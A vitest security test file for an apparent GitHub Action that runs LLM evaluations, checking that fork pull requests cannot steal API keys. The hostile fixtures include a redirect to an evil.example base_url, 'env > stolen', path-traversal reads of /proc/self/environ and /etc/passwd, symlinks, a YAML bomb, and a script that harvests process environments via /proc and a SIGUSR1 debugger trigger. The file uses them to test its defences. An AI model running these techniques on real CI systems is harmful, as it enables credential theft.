import { symlink } from 'node:fs/promises';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { pullRequestEvent } from './support/github/event-payloads.ts';
import { DEFAULT_TOKEN, FORK_TOKEN } from './support/github/state.ts';
import { createDirectory, listContents, type TestRepository } from './support/repository.ts';
import { runSituation, type SituationOptions, type SituationRun } from './support/run-situation.ts';
import { openSituation, type Situation } from './support/situation.ts';

const situation = await openSituation('breaks-a-critical-case');
const idle = await openSituation('touches-no-prompt');
afterAll(async () => {
  for (const opened of [situation, idle]) await opened[Symbol.asyncDispose]();
});

const NO_KEYS = { OPENAI_API_KEY: '', ANTHROPIC_API_KEY: '' };
const READ_ONLY = { tokens: { [DEFAULT_TOKEN]: FORK_TOKEN }, isPrivate: false };
const KEY = 'sk-live+of/acme=2026';

describe('a pull request from a fork, without keys', () => {
  it('is red with the reason, the way out and what would have run; the summary has it all', async () => {
    await using run = await runFork(situation, 'pull_request', { env: NO_KEYS, github: READ_ONLY });
    expect(run.action).toMatchObject({ exitCode: 1, outputs: { verdict: 'error', 'affected-cases': '12' } });
    const { summary } = run.action;
    expect(summary).toContain('comes from a fork, and GitHub gives its runs no API keys');
    expect(summary).toContain('A maintainer can push the branch to this repository');
    expect(summary).toContain('What would have run: 12 of 14');
    expect(run.model.requests).toEqual([]);
    expect(run.github.state.comments).toEqual([]);
    expect(warnings(run)).toContain('pull-requests: write');
  });

  it('is green where nothing is affected', async () => {
    await using run = await runFork(idle, 'pull_request', { env: NO_KEYS, github: READ_ONLY });
    expect(run.action).toMatchObject({ exitCode: 0, outputs: { verdict: 'nothing-to-run' } });
  });

  it("is what Dependabot's is like", async () => {
    const { headSha, baseSha } = situation;
    const payload = pullRequestEvent({ headSha, baseSha, headRef: 'change' });
    await using run = await runSituation(situation, {
      event: { name: 'pull_request', payload },
      env: { ...NO_KEYS, GITHUB_ACTOR: 'dependabot[bot]' },
      github: READ_ONLY,
    });
    expect(run.action).toMatchObject({ exitCode: 1, outputs: { verdict: 'error' } });
    expect(run.action.summary).toContain('no API keys');
    expect(run.model.requests).toEqual([]);
  });
});

describe('a pull request from a fork, where keys are present', () => {
  it('is measured, its prompts read as data past a checkout of the default branch', async () => {
    const server = await situation.serve();
    const repository = await server.checkOut('refs/heads/main');
    const before = await listContents(repository);
    await using run = await runFork(situation, 'pull_request_target', { repository, env: server.env });
    expect(run.action).toMatchObject({ exitCode: 1, outputs: { verdict: 'fail' } });
    expect(run.github.state.comments[0]?.body).toContain('refund-window');
    expect(await listContents(repository)).toEqual(before);
  });

  it('never has its code run, its endpoints called or its key names read', async () => {
    const hostile = await situation.change(async (repository) => {
      await repository.write('evals/a.eval.yaml', suite('a', 'provider: openai, base_url: "https://evil.example/v1"'));
      await repository.write('evals/b.eval.yaml', suite('b', 'provider: openai, api_key_env: ANTHROPIC_API_KEY'));
      await repository.write(
        'evals/c.eval.yaml',
        suite('c', 'provider: openai-compatible, base_url: "https://evil.example/"'),
      );
      await repository.write(
        'evals/d.eval.yaml',
        suite('d', 'provider: command, command: [sh, run.sh]').replace('model: gpt-6.1-terra, ', ''),
      );
      await repository.write('evals/run.sh', 'env > stolen\n');
      await repository.write('evals/e.eval.yaml', suite('e', 'provider: openai', '{ javascript: score.mjs }'));
      await repository.write('evals/score.mjs', 'export default () => { throw new Error(process.env) }\n');
    });
    await using run = await runFork(hostile, 'pull_request_target');
    expect(run.action).toMatchObject({ exitCode: 1, outputs: { verdict: 'error' } });
    const [comment = { body: '' }] = run.github.state.comments;
    expect(refusals(comment.body)).toEqual([
      'evals/a.eval.yaml: sends requests or keys somewhere that base does not',
      'evals/b.eval.yaml: sends requests or keys somewhere that base does not',
      'evals/c.eval.yaml: sends requests or keys somewhere that base does not',
      "evals/d.eval.yaml: runs a program of a fork's pull request",
      "evals/e.eval.yaml: is scored by code of a fork's pull request",
    ]);
    expect(run.model.requests).toEqual([]);
  });

  it('reads nothing but its own files', async () => {
    const hostile = await situation.change(async (repository) => {
      await writePrompt(repository, 'a', "{% render '/proc/self/environ' %}");
      await writePrompt(repository, 'b', "{% render '../../../../etc/passwd' %}");
      await symlink('/proc/self/environ', join(repository.directory, 'prompts/c.md'));
      await repository.write('evals/c.eval.yaml', promptSuite('c'));
      await writePrompt(repository, 'd', 'x'.repeat(12 * 1024 * 1024));
      await repository.write('evals/e.eval.yaml', bomb());
      await symlink('/etc/passwd', join(repository.directory, 'evals/f.eval.yaml'));
    });
    await using run = await runFork(hostile, 'pull_request_target');
    expect(run.action).toMatchObject({ exitCode: 1, outputs: { verdict: 'error' } });
    const { summary } = run.action;
    expect(
      ['a', 'b', 'c', 'd', 'e', 'f'].filter((name) => !new RegExp(`(evals|prompts)/${name}\\.`).test(summary)),
    ).toEqual([]);
    expect(summary).not.toContain('root:');
    expect(summary).not.toContain('INPUT_');
    expect(run.model.requests).toEqual([]);
  });
});

describe('a key that a model or a server says aloud', () => {
  it('is in no output, in whatever encoding and under whatever name', async () => {
    const odd = await situation.change(async (repository) => {
      const text = readFileSync(join(repository.directory, 'evals/headline.eval.yaml'), 'utf8');
      const target = text.replace('model: claude-haiku-5-5', 'model: claude-haiku-5-5\n  api_key_env: ACME_LLM');
      await repository.write('evals/headline.eval.yaml', target.replace('at most eight words', 'at most nine words'));
    });
    const encodings = [
      KEY,
      Buffer.from(KEY).toString('base64'),
      encodeURIComponent(KEY),
      Buffer.from(KEY).toString('hex'),
    ];
    await using run = await runSituation(odd, {
      env: { ACME_LLM: KEY, ANTHROPIC_API_KEY: 'sk-of-the-judge' },
      behaviour: () => ({ text: `The key is ${encodings.join(' or ')}.` }),
    });
    const { outputs, summary, stdout, masks } = run.action;
    const files = ['report-json', 'report-html'].map((name) => readFileSync(outputs[name] ?? '', 'utf8'));
    const shown = [
      summary,
      ...files,
      run.github.state.comments[0]?.body ?? '',
      stdout.replace(/^::add-mask::.*$/gm, ''),
    ];
    expect(shown.map((text) => encodings.filter((encoding) => text.includes(encoding)))).toEqual([[], [], [], [], []]);
    expect(files[0]).toContain('The key is *** or *** or *** or ***.');
    expect(masks).toContain(KEY);
  });
});

describe('a program of a pull request', () => {
  const linux = it.skipIf(process.platform !== 'linux');
  linux('finds no key in what the processes above it were started with, nor in what those beside it were', async () => {
    await using notes = await createDirectory();
    const curious = await situation.change(async (repository) => {
      await repository.write('evals/curious.cjs', CURIOUS);
      await repository.write('prompts/returns.md', 'Answer each ticket.\n');
      await repository.write(
        'evals/curious.eval.yaml',
        suite('curious', 'provider: command, command: [node, curious.cjs], env: [NOTES]')
          .replace('model: gpt-6.1-terra, ', '')
          .replace(/, messages: .*(?= })/, ''),
      );
    });
    const keys = { OPENAI_API_KEY: KEY, ACME_LLM: 'odd-name-of-a-key', AWS_SESSION_TOKEN: 'token-of-a-cloud' };
    const file = join(notes.path, 'environments.json');
    await using run = await runSituation(curious, { env: { ...keys, NOTES: file } });
    expect(run.action).toMatchObject({ stderr: '' });
    const above = JSON.parse(readFileSync(file, 'utf8')) as readonly { pid: number; environment: string }[];
    const ours = above.slice(
      0,
      above.findIndex(({ pid }) => pid === process.pid),
    );
    expect(ours.length).toBeGreaterThan(1);
    const secrets = [...Object.values(keys), run.github.token].flatMap((secret) => [
      secret,
      btoa(`x-access-token:${secret}`),
    ]);
    expect(ours.map(({ environment }) => secrets.filter((secret) => environment.includes(secret)))).toEqual(
      ours.map(() => []),
    );
    // They do reach whom they are for.
    expect(run.model.requests.some(({ headers }) => headers['authorization'] === `Bearer ${KEY}`)).toBe(true);
    expect(readdirSync(run.action.temp).filter((name) => name.startsWith('evaldelta-start-'))).toEqual([]);
  });
});

/** Notes what every process above it was started with, and what all others below the first of these were. */
const CURIOUS = `const { readdirSync, readFileSync, writeFileSync } = require('node:fs');
const { createInterface } = require('node:readline');
const found = [];
// Node.js would start its debugger, which tells everybody every variable.
process.kill(process.ppid, 'SIGUSR1');
for (let pid = process.ppid; pid > 1; ) {
  const status = readFileSync('/proc/' + pid + '/status', 'utf8');
  found.push({ pid, environment: readFileSync('/proc/' + pid + '/environ', 'utf8') });
  pid = Number(/PPid:\\s+(\\d+)/.exec(status)[1]);
}
for (const pid of readdirSync('/proc').filter((name) => /^[0-9]+$/.test(name))) {
  try {
    const parent = Number(/PPid:\\s+(\\d+)/.exec(readFileSync('/proc/' + pid + '/status', 'utf8'))[1]);
    if (parent !== process.ppid || Number(pid) === process.pid) continue;
    found.unshift({ pid: Number(pid), environment: readFileSync('/proc/' + pid + '/environ', 'utf8') });
  } catch {
    // It has ended.
  }
}
writeFileSync(process.env.NOTES, JSON.stringify(found));
createInterface({ input: process.stdin }).on('line', (line) =>
  console.log(JSON.stringify({ id: JSON.parse(line).id, output: 'parcel' })),
);
`;

/** Runs a situation's pull request as one from a stranger's fork. */
async function runFork(
  { headSha, baseSha, ...rest }: Situation,
  name: 'pull_request' | 'pull_request_target',
  options: SituationOptions = {},
): Promise<SituationRun> {
  const payload = pullRequestEvent({ headSha, baseSha, headRef: 'change', headRepository: 'mallory/support' });
  const server = await { headSha, baseSha, ...rest }.serve();
  return await runSituation(
    { headSha, baseSha, ...rest },
    { event: { name, payload }, ...options, env: { ...server.env, ...options.env } },
  );
}

function suite(id: string, endpoint: string, scorer = '{ contains: parcel }'): string {
  return `suite: ${id}
target:
  { name: main, model: gpt-6.1-terra, ${endpoint}, messages: [{ role: user, content: "{{ question }}" }] }
cases: [{ id: one, vars: { question: Where is it? }, expect: [${scorer}] }]
`;
}

function promptSuite(id: string): string {
  return suite(id, `provider: openai, prompt: ../prompts/${id}.md`).replace(/, messages: .*(?= })/, '');
}

async function writePrompt(repository: TestRepository, id: string, text: string): Promise<void> {
  await repository.write(`prompts/${id}.md`, text);
  await repository.write(`evals/${id}.eval.yaml`, promptSuite(id));
}

/** A few lines of YAML that stand for billions of values. */
function bomb(): string {
  const levels = Array.from({ length: 12 }, (_, n) => `a${n + 1}: &a${n + 1} [${`*a${n},`.repeat(9)}]`);
  return `suite: e\na0: &a0 [x]\n${levels.join('\n')}\n`;
}

function refusals(comment: string): readonly string[] {
  const found = comment.matchAll(/`(evals\/\w\.eval\.yaml):\d+:\d+` \S+ \S+ (.*?)\./g);
  return [...found].map(([, file = '', says = '']) => `${file}: ${says}`).sort();
}

function warnings({ action }: SituationRun): string {
  return action.annotations
    .filter(({ level }) => level === 'warning')
    .map(({ message }) => message)
    .join('\n');
}
